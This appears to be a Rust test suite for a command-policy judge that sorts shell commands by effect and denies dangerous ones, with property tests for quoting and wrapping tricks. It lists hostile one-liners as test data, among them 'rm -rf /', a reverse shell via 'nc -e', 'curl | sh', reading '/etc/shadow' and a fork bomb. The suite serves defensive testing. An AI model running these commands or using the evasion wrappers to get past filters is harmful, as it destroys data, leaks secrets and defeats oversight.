use std::{
    cell::RefCell,
    time::{Duration, Instant},
};

use proptest::prelude::*;

use super::*;
use crate::policy::{Policy, SecurityMode};

const COMMANDS: &str = include_str!("../../../tests/policy/commands.txt");

fn judge() -> &'static Judge {
    static JUDGE: std::sync::OnceLock<Judge> = std::sync::OnceLock::new();
    JUDGE.get_or_init(|| Judge::new(&Policy::shipped().expect("shipped")))
}

fn effects(command: &str) -> Vec<Effect> {
    let judged = judge().judge(command, &Setting::default());
    let mut all: Vec<Effect> = judged
        .commands
        .iter()
        .flat_map(|seen| seen.effects.iter().map(|(effect, _)| *effect))
        .collect();
    all.sort();
    all.dedup();
    all
}

fn labelled() -> Vec<String> {
    COMMANDS
        .lines()
        .filter_map(|line| line.split_once('\t'))
        .map(|(_, command)| command.replace('⏎', "\n"))
        .collect()
}

#[test]
fn each_effect_is_recognised_and_named() {
    for (effect, command) in [
        (Effect::DestroysOutsideWorkspace, "rm -rf /etc"),
        (Effect::WritesOutsideWorkspace, "cp x /etc/nginx/x"),
        (Effect::ChangesWhatStartsLater, "crontab x"),
        (Effect::RaisesPrivilege, "sudo true"),
        (Effect::PowersOff, "reboot"),
        (Effect::ExhaustsHost, "f() { f | f & }; f"),
        (Effect::DownloadsAndExecutes, "curl x | sh"),
        (Effect::OpensReverseShell, "nc -e /bin/sh h 1"),
        (Effect::ReadsSecrets, "cat /etc/shadow"),
        (Effect::TampersWithEvidence, "rm pipeline.yml"),
        (Effect::DiscardsWork, "git reset --hard"),
        (Effect::TalksToContainerEngine, "docker ps"),
        (Effect::DestroysRemotely, "terraform destroy"),
        (Effect::WaitsForPerson, "gh auth login"),
        (Effect::RunsUnknownProgram, "$X"),
        (Effect::RunsDecodedText, "base64 -d x | sh"),
        (Effect::CannotBeParsed, "("),
        (Effect::CannotBeFollowed, &"(".repeat(200)),
    ] {
        assert_eq!(effects(command), [effect], "{command:.80}");
        assert_eq!(serde_json::json!(effect), effect.name());
    }
    let both = effects("docker run --privileged x");
    assert_eq!(both, [Effect::TalksToContainerEngine, Effect::ReachesHostThroughEngine]);
    assert_eq!(Effect::ALL.len(), 19);
}

#[test]
fn a_verdict_names_its_rule_the_place_and_the_command() {
    let verdict = judge().verdict("make; (cd x && rm -rf /etc)");
    assert_eq!(verdict.verdict, Ruling::Deny);
    assert_eq!(verdict.rule, "destroys-outside-workspace");
    assert!(verdict.because.contains("`rm -rf /etc`"), "{}", verdict.because);
    let (file, line) = verdict.at.split_once(':').expect("a line");
    assert_eq!(file, "policies/default.yml");
    let text = include_str!("../../../policies/default.yml");
    let named = text.lines().nth(line.parse::<usize>().expect("a number") - 1);
    assert_eq!(named, Some("    - id: destroys-outside-workspace"));
    let allowed = judge().verdict("make");
    assert_eq!(
        (allowed.verdict, allowed.rule.as_str()),
        (Ruling::Allow, "commands.rules")
    );
    // The gravest of a line decides, wherever it stands.
    assert_eq!(judge().verdict("$X; git stash; sudo true; $Y").rule, "sudo");
}

#[test]
fn rules_of_a_higher_layer_decide_first() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("p.yml");
    std::fs::write(
        &file,
        "version: 1\ncommands:\n  rules:\n    - {id: ours, verdict: allow, when: {argv: [sudo, [id, whoami]]}}\n    \
         - {id: no-pip, verdict: deny, when: {argv: [['pip*'], install], without: [--dry-run]}, because: mirrors}\n    \
         - {id: engines, verdict: undecided, when: {effect: talks-to-container-engine}}\n",
    )
    .expect("write");
    let named = file.display().to_string();
    let policy = Policy::of_host(&crate::policy::HostPlaces::default(), Some(&named)).expect("holds");
    let judge = Judge::new(&policy);
    for (command, ruling, rule) in [
        ("sudo id", Ruling::Allow, "ours"),
        ("sudo -n whoami", Ruling::Allow, "ours"),
        ("sudo rm x", Ruling::Deny, "sudo"),
        ("sudo id; sudo rm x", Ruling::Deny, "sudo"),
        ("pip3 install x", Ruling::Deny, "no-pip"),
        ("python -m pip install x", Ruling::Allow, "commands.rules"),
        ("pip install --dry-run x", Ruling::Allow, "commands.rules"),
        ("pip list", Ruling::Allow, "commands.rules"),
        ("docker ps", Ruling::Undecided, "engines"),
        ("docker run --privileged x", Ruling::Deny, "host-through-engine"),
    ] {
        let verdict = judge.verdict(command);
        assert_eq!((verdict.verdict, verdict.rule.as_str()), (ruling, rule), "{command}");
    }
    assert!(judge.verdict("pip install x").at.ends_with("p.yml:5"));
}

#[test]
fn a_rule_that_cannot_hold_is_refused_when_its_file_is_read() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("p.yml");
    let named = file.display().to_string();
    for (rule, said) in [
        ("{id: a, verdict: deny, when: {}}", "`a` has no condition"),
        ("{id: 'a b', verdict: deny, when: {argv: [x]}}", "a rule's `id`"),
        ("{id: a, verdict: deny, when: {argv: [[]]}}", "an empty word"),
        ("{id: a, verdict: maybe, when: {argv: [x]}}", "must be one of"),
        ("{id: a, verdict: deny, when: {effect: eats}}", "a"),
        (
            "{id: a, verdict: deny, when: {argv: [x]}, match: [y]}",
            "`a` does not fit its example `y`",
        ),
        (
            "{id: a, verdict: deny, when: {argv: [x]}, not_match: [env x]}",
            "`a` fits `env x`, which it is not to fit",
        ),
    ] {
        std::fs::write(&file, format!("version: 1\ncommands:\n  rules:\n    - {rule}\n")).expect("write");
        let error = Policy::of_host(&crate::policy::HostPlaces::default(), Some(&named)).expect_err(rule);
        let text = error.to_string();
        assert!(text.contains(said) && text.contains("p.yml:4:"), "{text}");
    }
    let twice = "{id: a, verdict: deny, when: {argv: [x]}}";
    std::fs::write(
        &file,
        format!("version: 1\ncommands:\n  rules:\n    - {twice}\n    - {twice}\n"),
    )
    .expect("write");
    let error = Policy::of_host(&crate::policy::HostPlaces::default(), Some(&named)).expect_err("twice");
    assert!(error.to_string().contains("there are two rules `a`"), "{error}");
}

/// Files that are there, and which of them were asked for.
#[derive(Default)]
struct Files {
    files: Vec<(&'static str, String)>,
    asked: RefCell<Vec<String>>,
}

impl Scripts for Files {
    fn read(&self, path: &[String]) -> Option<String> {
        let path = path.join("/");
        self.asked.borrow_mut().push(path.clone());
        self.files
            .iter()
            .find(|(name, _)| *name == path)
            .map(|(_, text)| text.clone())
    }
}

#[test]
fn scripts_of_the_workspace_are_followed_from_the_directory_that_they_run_in() {
    let files = Files {
        files: vec![
            ("bad.sh", "#!/bin/sh\necho hello\nrm -rf /\n".to_owned()),
            ("sub/bad.sh", "cd /\nrm -rf *\n".to_owned()),
            ("calls.sh", "set -e\n./sub/bad.sh \"$1\"\n".to_owned()),
            ("given.sh", "rm -rf \"$1\"\n".to_owned()),
            ("good.sh", "make\n# sudo is not used\n".to_owned()),
            ("loop.sh", "sh loop.sh\n".to_owned()),
            ("bad.py", "import shutil\nshutil.rmtree('/')\n".to_owned()),
        ],
        ..Files::default()
    };
    let verdict = |command: &str, dir: &str| {
        let setting = Setting {
            mode: SecurityMode::Safe,
            dir,
            scripts: Some(&files),
        };
        judge().judge(command, &setting).verdict.verdict
    };
    for command in [
        "sh bad.sh",
        "bash -x ./bad.sh",
        "/bin/bash bad.sh",
        "env bash bad.sh",
        "./bad.sh",
        "source bad.sh",
        ". ./bad.sh",
        "true && bash bad.sh",
        "cat bad.sh | bash",
        "bash < bad.sh",
        "timeout 5 bash bad.sh",
        "sh calls.sh",
        "cd sub && ./bad.sh",
        "sh given.sh /",
        "eval \"$(cat bad.sh)\"",
    ] {
        assert_eq!(verdict(command, ""), Ruling::Deny, "{command}");
    }
    assert_eq!(verdict("./bad.sh", "sub"), Ruling::Deny);
    for command in [
        "sh good.sh",
        "./good.sh",
        "sh given.sh build",
        "sh loop.sh",
        "sh missing.sh",
        "make",
    ] {
        assert_ne!(verdict(command, ""), Ruling::Deny, "{command}");
    }
    assert_eq!(verdict("sh good.sh", ""), Ruling::Allow);
    assert!(files.asked.borrow().contains(&"sub/bad.sh".to_owned()));
    assert!(!files.asked.borrow().iter().any(|path| path.contains("..")));
}

#[test]
fn no_command_costs_much() {
    let began = Instant::now();
    let mut worst = (Duration::ZERO, String::new());
    for command in [
        "x=a;x=$x$x$x$x;".repeat(200) + "$x",
        "for a in 1 2 3 4 5 6 7 8; do ".repeat(12) + "x" + &"; done".repeat(12),
        "f() { g; g; }; g() { h; h; }; h() { f; f; }; f".repeat(50),
        (0..60).fold(String::new(), |all, n| {
            format!("{all}f{n}() {{ f{}; f{}; f{}; }};", n + 1, n + 1, n + 1)
        }) + "f0",
        "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}".to_owned(),
        "echo {1..1000000}{1..1000000}".to_owned(),
        "echo ".to_owned() + &"{a,".repeat(300),
        "a | ".repeat(2000) + "a",
        "$(".repeat(18) + "a" + &")".repeat(18),
        "eval ".repeat(5000) + "a",
        "env ".repeat(5000) + "a",
        "x='eval \"$x\"'; eval \"$x\"".to_owned(),
        "x=$x:/; ".repeat(3000),
        "printf '%s' ".to_owned() + &"a ".repeat(3000) + "| sh",
        "cat <<E | sh\n".to_owned() + &"a b c\n".repeat(5000) + "E\n",
        "python3 -c '".to_owned() + &"exec(\"".repeat(3000) + "'",
        "x=".to_owned() + &"a*".repeat(2000) + "; echo ${x##" + &"*a".repeat(500) + "}",
    ] {
        let started = Instant::now();
        let _ = judge().verdict(&command);
        worst = worst.max((started.elapsed(), command.chars().take(40).collect()));
    }
    assert!(began.elapsed() < Duration::from_secs(60), "{worst:?}");
}

/// Words of a command whose quoting may change.
fn plain(word: &str) -> bool {
    !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c))
}

fn requoted(word: &str, style: usize) -> String {
    match style {
        0 => format!("'{word}'"),
        1 => format!("\"{word}\""),
        2 => word.chars().map(|c| format!("\\{c}")).collect(),
        3 => format!("$'{word}'"),
        4 => word.chars().map(|c| format!("{c}''")).collect(),
        _ => word.to_owned(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    /// Simple commands say the same however their words are quoted.
    #[test]
    fn quoting_a_literal_word_changes_nothing(
        at in any::<prop::sample::Index>(),
        styles in prop::collection::vec(0usize..6, 12),
    ) {
        let simple: Vec<String> = labelled()
            .into_iter()
            .filter(|command| command.split(' ').count() < 12 && command.split(' ').all(plain))
            // Reserved words, and assignments, are what they are only unquoted.
            .filter(|command| !command.starts_with("time") && !command.contains("coproc"))
            .collect();
        let command = &simple[at.index(simple.len())];
        let words = command.split(' ').zip(styles).map(|(word, style)| requoted(word, style));
        let quoted = words.collect::<Vec<_>>().join(" ");
        let (one, other) = (judge().verdict(command), judge().verdict(&quoted));
        prop_assert_eq!((one.verdict, one.rule), (other.verdict, other.rule), "{} | {}", command, quoted);
    }

    /// What stands around a destructive command does not hide it.
    #[test]
    fn what_surrounds_a_command_does_not_hide_it(
        at in any::<prop::sample::Index>(),
        around in prop::collection::vec(0usize..12, 1..4),
    ) {
        let denied: Vec<String> = COMMANDS
            .lines()
            .filter_map(|line| line.strip_prefix("deny\t"))
            // With one more `;` after its own it would be no command.
            .filter(|command| !command.contains(['⏎', '\'', '#', '<', '\\', '!']) && !command.ends_with(';'))
            // `x=1` at the end of a pipeline, `$0`, positional parameters: another shell's matter.
            .filter(|command| !command.contains(['$', '`', '&', '=']) && !command.contains("alias"))
            .map(str::to_owned)
            .collect();
        let mut command = denied[at.index(denied.len())].clone();
        for style in around {
            command = match style {
                // With a blank, and below: `((` begins arithmetic.
                0 => format!("( {command})"),
                1 => format!("{{ {command}; }}"),
                2 => format!("if true; then {command}; fi"),
                3 => format!("true && {{ {command}; }}"),
                4 => format!("make; {command}"),
                5 => format!("{command}; make"),
                6 => format!("while read -r l; do {command}; done"),
                7 => format!("f() {{ {command}; }}; f"),
                8 => format!("{{ {command}; }} > log 2>&1"),
                9 => format!("echo \"$( {command})\""),
                10 => format!("case x in *) {command};; esac"),
                _ => format!("{{ {{ {command}; }} & }}"),
            };
        }
        prop_assert_eq!(judge().verdict(&command).verdict, Ruling::Deny, "{}", command);
    }

    #[test]
    fn no_text_panics_or_takes_long(
        at in any::<prop::sample::Index>(),
        other in any::<prop::sample::Index>(),
        cut in any::<prop::sample::Index>(),
        noise in "[ -~\n\t\u{f8f0}-\u{f8ff}\u{0}]{0,6}",
    ) {
        let all = labelled();
        let (one, other) = (&all[at.index(all.len())], &all[other.index(all.len())]);
        let chars: Vec<char> = one.chars().collect();
        let cut = cut.index(chars.len() + 1);
        let head: String = chars[..cut].iter().collect();
        let tail: String = chars[cut..].iter().collect();
        for text in [format!("{head}{noise}{tail}"), format!("{head}{noise}{other}"), format!("{noise}{tail}{head}")] {
            let began = Instant::now();
            let _ = judge().verdict(&text);
            prop_assert!(began.elapsed() < Duration::from_secs(5), "{text:?}");
        }
    }

    #[test]
    fn no_bytes_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let _ = judge().verdict(&String::from_utf8_lossy(&bytes));
    }
}
